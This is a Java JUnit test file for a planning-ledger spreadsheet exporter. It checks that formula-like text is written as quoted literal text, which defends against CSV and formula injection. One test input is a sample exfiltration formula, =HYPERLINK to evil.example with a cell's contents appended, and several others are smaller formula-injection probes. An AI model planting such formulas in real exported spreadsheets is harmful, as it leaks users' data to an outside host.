package org.greenplan.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Text that looks like a formula is exported as literal text (OWASP CSV Injection). */
class SpreadsheetTextTests {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";

    @Test
    void ledgerWritesFormulaLikeTaskAndUnitTextAsQuotedStrings() throws IOException {
        LedgerRow row = new LedgerRow(
                1,
                "1",
                "一、推进绿色发展",
                "",
                HYPERLINK,
                List.of("@SUM(1)"),
                List.of("市林业局"),
                List.of("-1+2", "+86"),
                "\t2022-12-31",
                "\r=1+1",
                "绿灯",
                org.greenplan.supervision.TaskStatus.GREEN);

        try (XSSFWorkbook book =
                new XSSFWorkbook(new ByteArrayInputStream(LedgerWorkbook.write("=测试计划", List.of(row))))) {
            Sheet sheet = book.getSheetAt(0);
            Row written = sheet.getRow(LedgerWorkbook.HEADER_ROW + 1);

            assertQuotedText(sheet.getRow(0).getCell(0), "=测试计划任务台账");
            assertQuotedText(written.getCell(3), HYPERLINK);
            assertQuotedText(written.getCell(4), "@SUM(1)");
            assertQuotedText(written.getCell(6), "-1+2\n+86");
            assertQuotedText(written.getCell(7), "\t2022-12-31");
            assertQuotedText(written.getCell(8), "\r=1+1");
            assertThat(written.getCell(5).getStringCellValue()).isEqualTo("市林业局");
            assertThat(written.getCell(5).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(written.getCell(9).getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(formulaCells(sheet)).isEmpty();
        }
    }

    @Test
    void quotedStylesKeepTheBaseStyleAndAreMadeOncePerStyle() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            var base = book.createCellStyle();
            base.setWrapText(true);
            Row row = book.createSheet().createRow(0);
            SpreadsheetText cells = new SpreadsheetText(book);
            int before = book.getNumCellStyles();

            cells.write(row.createCell(0), "=1", base);
            cells.write(row.createCell(1), "+2", base);
            cells.write(row.createCell(2), "普通文字", base);

            assertThat(book.getNumCellStyles()).isEqualTo(before + 1);
            assertThat(row.getCell(0).getCellStyle().getIndex())
                    .isEqualTo(row.getCell(1).getCellStyle().getIndex());
            assertThat(row.getCell(0).getCellStyle().getWrapText()).isTrue();
            assertThat(row.getCell(2).getCellStyle().getIndex()).isEqualTo(base.getIndex());
        }
    }

    @Test
    void csvFieldsStartingWithAFormulaCharacterGetAnApostrophe() {
        assertThat(SpreadsheetText.forCsv("=HYPERLINK(\"x\")")).isEqualTo("'=HYPERLINK(\"x\")");
        assertThat(SpreadsheetText.forCsv("@SUM(1)")).isEqualTo("'@SUM(1)");
        assertThat(SpreadsheetText.forCsv("+86 0557")).isEqualTo("'+86 0557");
        assertThat(SpreadsheetText.forCsv("-5")).isEqualTo("'-5");
        assertThat(SpreadsheetText.forCsv("\tx")).isEqualTo("'\tx");
        assertThat(SpreadsheetText.forCsv("\rx")).isEqualTo("'\rx");
        assertThat(SpreadsheetText.forCsv("秸秆综合利用率=92%")).isEqualTo("秸秆综合利用率=92%");
        assertThat(SpreadsheetText.forCsv(null)).isEmpty();
    }

    private static void assertQuotedText(Cell cell, String text) {
        assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
        assertThat(cell.getStringCellValue()).isEqualTo(text);
        assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
    }

    private static List<String> formulaCells(Sheet sheet) {
        List<String> formulas = new ArrayList<>();
        for (Row row : sheet) {
            for (Cell cell : row) {
                if (cell.getCellType() == CellType.FORMULA) {
                    formulas.add(cell.getAddress().formatAsString());
                }
            }
        }
        return formulas;
    }
}
